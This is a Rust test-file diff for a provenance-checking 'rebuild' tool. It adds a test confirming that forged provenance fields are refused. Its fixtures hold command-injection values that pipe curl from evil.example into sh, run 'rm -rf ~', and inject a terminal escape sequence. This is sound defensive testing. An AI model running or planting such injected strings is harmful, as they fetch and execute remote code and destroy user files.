@@ -165,21 +165,29 @@ fn a_changed_or_dirty_checkout_is_refused_and_a_changed_source_differs() {
 /// The artifact with its provenance's compiler replaced by `rustc`,
 /// re-packed and re-signed at the same time.
 fn with_compiler(artifact: &Path, release: &str, into: &Path) -> PathBuf {
+    with_provenance(artifact, into, |provenance| {
+        let internal = &mut provenance["predicate"]["buildDefinition"]["internalParameters"];
+        let rustc = internal["rustc"].as_str().unwrap();
+        let changed: Vec<String> = rustc
+            .lines()
+            .map(|line| match line.split_once(": ") {
+                Some(("release", _)) => format!("release: {release}"),
+                Some(("commit-hash", _)) => "commit-hash: 1111111111111111111111111111111111111111".into(),
+                _ => line.to_owned(),
+            })
+            .collect();
+        internal["rustc"] = Value::from(changed.join("\n"));
+        provenance["predicate"]["runDetails"]["builder"]["version"]["cargo-palyra-skill"] =
+            Value::from("0.0.9");
+    })
+}
+
+/// The artifact with its provenance changed by `edit`, re-packed and re-signed.
+fn with_provenance(artifact: &Path, into: &Path, edit: impl FnOnce(&mut Value)) -> PathBuf {
     let entries = Entries::read_zip(&std::fs::read(artifact).unwrap()).unwrap();
     let text = |path: &str| String::from_utf8(entries.get(path).unwrap().bytes.clone()).unwrap();
     let mut provenance: Value = serde_json::from_str(&text(PROVENANCE_PATH)).unwrap();
-    let internal = &mut provenance["predicate"]["buildDefinition"]["internalParameters"];
-    let rustc = internal["rustc"].as_str().unwrap();
-    let changed: Vec<String> = rustc
-        .lines()
-        .map(|line| match line.split_once(": ") {
-            Some(("release", _)) => format!("release: {release}"),
-            Some(("commit-hash", _)) => "commit-hash: 1111111111111111111111111111111111111111".into(),
-            _ => line.to_owned(),
-        })
-        .collect();
-    internal["rustc"] = Value::from(changed.join("\n"));
-    provenance["predicate"]["runDetails"]["builder"]["version"]["cargo-palyra-skill"] = Value::from("0.0.9");
+    edit(&mut provenance);
     let (mut repacked, manifest) = pack::assemble(Parts {
         manifest_text: text(MANIFEST_PATH),
         modules: entries
@@ -229,4 +237,50 @@ fn what_cannot_be_rebuilt_is_an_error() {
     let garbage = dir.path().join("garbage.palyra-skill");
     std::fs::write(&garbage, b"PK\x03\x04 not a zip").unwrap();
     rebuild(&garbage, dir.path()).assert().code(2).stderr(predicate::str::contains("could not rebuild"));
+}
+
+/// The second review's item 7: a signed artifact whose provenance carries
+/// shell text or terminal escapes in a field `rebuild` would run or print
+/// is refused as the provenance's fault, before anything is run or suggested.
+#[test]
+fn crafted_provenance_fields_are_refused_before_anything_runs() {
+    let dir = tempfile::tempdir().unwrap();
+    let (artifact, clone) = published(dir.path());
+    let rustc = |release: &'static str| {
+        move |p: &mut Value| {
+            let internal = &mut p["predicate"]["buildDefinition"]["internalParameters"];
+            let text =
+                internal["rustc"].as_str().unwrap().replace("release: 1.", &format!("release: {release}"));
+            internal["rustc"] = Value::from(text);
+        }
+    };
+    let external = |key: &'static str, value: Value| {
+        move |p: &mut Value| p["predicate"]["buildDefinition"]["externalParameters"][key] = value
+    };
+    let cases: Vec<(&str, Box<dyn FnOnce(&mut Value)>)> = vec![
+        ("the rustc release", Box::new(rustc("1.80.0 && sh <(curl -s https://evil.example) #"))),
+        (
+            "the tool version",
+            Box::new(|p: &mut Value| {
+                p["predicate"]["runDetails"]["builder"]["version"]["cargo-palyra-skill"] =
+                    Value::from("0.1.0 && curl evil.example | sh #")
+            }),
+        ),
+        ("the package", Box::new(external("package", Value::from("acme-guard\n\u{1b}]0;owned\u{7}")))),
+        ("the profile", Box::new(external("profile", Value::from("release; rm -rf ~")))),
+        ("the target", Box::new(external("target", Value::from("x86_64-unknown-linux-gnu")))),
+        ("a feature", Box::new(external("features", serde_json::json!(["ok", "a b"])))),
+    ];
+    for (index, (what, edit)) in cases.into_iter().enumerate() {
+        let into = dir.path().join(format!("case{index}"));
+        std::fs::create_dir_all(&into).unwrap();
+        let crafted = with_provenance(&artifact, &into, edit);
+        let out = rebuild(&crafted, &clone).assert().code(2).get_output().clone();
+        let stderr = String::from_utf8(out.stderr).unwrap();
+        assert!(stderr.contains(&format!("`provenance.json` records {what} `")), "{what}: {stderr}");
+        assert!(stderr.contains("malformed or crafted"), "{what}: {stderr}");
+        assert!(!stderr.contains("Rebuilding") && !stderr.contains("rustup toolchain install"), "{stderr}");
+        assert!(!stderr.contains("cargo install"), "{what}: {stderr}");
+        assert!(!stderr.contains('\u{1b}') && !stderr.contains('\u{7}'), "{what}: raw escapes: {stderr:?}");
+    }
 }
